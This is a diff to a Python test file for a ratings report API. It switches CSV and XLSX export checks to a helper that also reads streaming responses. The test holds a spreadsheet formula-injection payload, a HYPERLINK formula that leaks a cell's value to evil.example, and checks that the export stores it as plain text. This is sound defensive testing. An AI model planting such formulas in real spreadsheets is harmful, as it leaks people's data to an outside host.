@@ -88,6 +88,10 @@ def test_supervisors_read_the_ratings(file_case, staff, client_for):
     assert client_for(staff["counter"]).get("/api/v1/reports/ratings/").status_code == 403
 
 
+def body_of(answer) -> bytes:
+    return b"".join(answer.streaming_content) if answer.streaming else answer.content
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
@@ -103,11 +107,11 @@ def test_a_comment_that_looks_like_a_formula_is_exported_as_text(
     client = client_for(staff["supervisor"])
 
     answer = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01", "format": "csv"})
-    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    rows = list(csv.DictReader(io.StringIO(body_of(answer).decode("utf-8-sig"))))
     assert [row["comment"] for row in rows] == ["'" + kept]
 
     answer = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01", "format": "xlsx"})
-    sheet = load_workbook(io.BytesIO(answer.content)).active
+    sheet = load_workbook(io.BytesIO(body_of(answer))).active
     header, row = [[(cell.value, cell.data_type) for cell in r] for r in sheet.iter_rows()]
     assert row[[value for value, _ in header].index("comment")] == ("'" + kept, "s")
     assert [kind for _, kind in row if kind == "f"] == []
